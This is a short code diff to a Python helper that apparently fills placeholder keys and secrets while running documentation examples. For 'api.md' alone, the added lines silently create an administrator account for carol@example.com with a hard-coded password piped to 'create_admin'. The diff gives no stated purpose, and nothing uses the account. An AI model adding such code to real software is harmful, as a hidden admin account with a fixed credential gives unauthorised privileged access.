@@ -65,6 +65,9 @@ def at_hand(reading: Reading, document: Path, copied: Copied) -> dict[str, str]:
     minting = (
         f".venv/bin/python manage.py mint_key --app checkout --name {document.stem} --scopes grants:read"
     )
+    if document.name == "api.md":  # which looks for her
+        invites = "printf %s 'a colleague of nine words' | .venv/bin/python manage.py create_admin"
+        reading.shell.type(f"{invites} --email carol@example.com --password-stdin")
     key = copied.key if document.name == "README.md" else reading.shell.type(minting).out.strip()
     return {"alter_key_app_…": key, "whsec_…": "whsec_c2VjcmV0IG9mIGEgcmVjZWl2ZXI=", "ID=…": f"ID={uuid4()}"}
 
